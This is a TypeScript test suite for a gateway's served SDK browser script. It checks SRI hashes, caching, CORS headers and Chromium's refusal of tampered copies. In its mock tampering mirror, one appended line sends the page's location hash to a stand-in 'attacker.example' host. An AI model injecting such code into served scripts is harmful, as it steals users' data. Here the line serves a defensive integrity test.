// GET /sdk/v1/browser.js (SPEC §6 amended): the SDK's browser helper as one ES module an artifact on
// any origin imports, and the abuse cases of SECURITY.md ("The served SDK script"): its bytes are the
// ones whose SRI hash the docs publish, cached only under a versioned path, public to every origin
// and the same for every caller.
import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { markdownFiles } from '@/lib/platform/tasks/doc-links';
import { gatewayForSuite } from './harness/gateway-fixture';
import { launchChromium } from './harness/chromium';

const PATH = '/sdk/v1/browser.js';
const sri = (bytes: Buffer | string) => `sha384-${createHash('sha384').update(bytes).digest('base64')}`;

describe('the SDK browser helper served by the gateway', () => {
  const gw = gatewayForSuite('pglite');
  let served: Response;
  let body: Buffer;

  beforeAll(async () => {
    served = await fetch(`${gw.url}${PATH}`);
    body = Buffer.from(await served.arrayBuffer());
  });

  it('is one ES module with no imports of its own, exporting connectToGateway, as text/javascript', async () => {
    expect(served.status).toBe(200);
    expect(served.headers.get('content-type')).toBe('text/javascript; charset=utf-8');
    expect(served.headers.get('x-content-type-options')).toBe('nosniff');
    const source = body.toString('utf8');
    expect(source).not.toMatch(/^\s*import\b|\bimport\s*\(/m);
    // A data: URL module resolves no relative import: it loads only if it stands alone, as in a page.
    const mod = (await import(/* @vite-ignore */ `data:text/javascript;base64,${body.toString('base64')}`)) as Record<string, unknown>;
    expect(Object.keys(mod).sort()).toEqual(['GatewayConnectionError', 'connectToGateway']);
    expect(typeof mod.connectToGateway).toBe('function');
  });

  it('tampering: its bytes hash to the SRI value the docs publish, so a browser pinning it refuses any other', () => {
    const published = markdownFiles(process.cwd()).flatMap((file) => [...readFileSync(file, 'utf8').matchAll(/sha384-[A-Za-z0-9+/]{64}/g)].map((m) => ({ file, hash: m[0] })));
    expect(published.filter((p) => p.file === 'lib/artifact-sdk/README.md').length).toBeGreaterThanOrEqual(2);
    // Every hash in the docs is this file's: a change to the helper fails here until the docs say its new hash.
    expect(published.filter((p) => p.hash !== sri(body)), `the served file's hash is now ${sri(body)}`).toEqual([]);
    // One byte changed, and the published hash no longer matches.
    const altered = Buffer.from(body);
    altered.writeUInt8(altered.readUInt8(altered.length - 2) ^ 1, altered.length - 2);
    expect(sri(altered)).not.toBe(sri(body));
  });

  // That no other path answers (no unversioned copy to go stale) is checked on the production build: built-server.test.ts.
  it('a stale copy: cached for a year only under the versioned path', async () => {
    expect(served.headers.get('cache-control')).toBe('public, max-age=31536000, immutable');
    const posted = await fetch(`${gw.url}${PATH}`, { method: 'POST' });
    expect(posted.status).toBe(405);
  });

  it('CORS: any origin may load it, without credentials; every caller gets the same bytes and no cookie', async () => {
    const cookie = await gw.client.signIn('alice@acme.test');
    const fromArtifact = await fetch(`${gw.url}${PATH}`, { headers: { origin: 'http://apps.example.test', cookie } });
    expect(fromArtifact.status).toBe(200);
    expect(fromArtifact.headers.get('access-control-allow-origin')).toBe('*');
    expect(fromArtifact.headers.get('access-control-allow-credentials')).toBeNull();
    expect(fromArtifact.headers.get('cross-origin-resource-policy')).toBe('cross-origin');
    expect(fromArtifact.headers.getSetCookie()).toEqual([]);
    expect(fromArtifact.headers.get('vary')).toBeNull();
    expect(Buffer.from(await fromArtifact.arrayBuffer()).equals(body)).toBe(true);
  });
});

/**
 * An artifact's page on its own origin that pins the published hash with an import map and imports
 * the helper from `url`; resolves to what the page says: "loaded: function" or "refused".
 */
function pinnedImportPage(url: string, integrity: string): string {
  return `<!doctype html><title>…</title>
<script type="importmap">${JSON.stringify({ integrity: { [url]: integrity } })}</script>
<script type="module">
  import(${JSON.stringify(url)}).then((m) => (document.title = 'loaded: ' + typeof m.connectToGateway), () => (document.title = 'refused'));
</script>`;
}

describe('an artifact page in Chromium pinning the published SRI hash', () => {
  const gw = gatewayForSuite('pglite');
  let artifact: Server;
  let artifactUrl: string;
  let browser: Browser;
  const published = readFileSync('lib/artifact-sdk/README.md', 'utf8').match(/`\/sdk\/v1\/browser\.js` \| `(sha384-[^`]+)`/)?.[1] ?? '';

  beforeAll(async () => {
    // The artifact's origin; /mirror/… stands for a tampering proxy or CDN in front of the gateway.
    artifact = createServer(async (req, res) => {
      const url = new URL(req.url ?? '/', 'http://artifact');
      const mirrored = /^\/(mirror|tampering-mirror)\/sdk\/v1\/browser\.js$/.exec(url.pathname);
      if (mirrored) {
        const original = await (await fetch(`${gw.url}/sdk/v1/browser.js`)).text();
        const added = mirrored[1] === 'tampering-mirror' ? `\nfetch('https://attacker.example/steal?' + location.hash);\n` : '';
        res.writeHead(200, { 'content-type': 'text/javascript', 'access-control-allow-origin': '*' }).end(original + added);
        return;
      }
      const target = url.searchParams.get('import') ?? '';
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(pinnedImportPage(target, published));
    });
    await new Promise<void>((resolve) => artifact.listen(0, '127.0.0.1', resolve));
    artifactUrl = `http://localhost:${(artifact.address() as AddressInfo).port}`;
    browser = await launchChromium();
  }, 120_000);
  afterAll(async () => {
    await browser?.close();
    await new Promise((resolve) => artifact?.close(resolve));
  });

  async function titleAfterImport(url: string): Promise<string> {
    const page = await (await browser.newContext()).newPage();
    await page.goto(`${artifactUrl}/?import=${encodeURIComponent(url)}`);
    await page.waitForFunction(() => document.title !== '…');
    const title = await page.title();
    await page.context().close();
    return title;
  }

  it('tampering: loads the gateway’s file cross-site, and refuses the same module with bytes added on the way', async () => {
    expect(published).toMatch(/^sha384-/);
    expect(await titleAfterImport(`${gw.url}/sdk/v1/browser.js`)).toBe('loaded: function');
    // The same bytes through a mirror load (the pin is on the bytes, not the origin); one line added, and the browser refuses them.
    expect(await titleAfterImport(`${artifactUrl}/mirror/sdk/v1/browser.js`)).toBe('loaded: function');
    expect(await titleAfterImport(`${artifactUrl}/tampering-mirror/sdk/v1/browser.js`)).toBe('refused');
  });
});
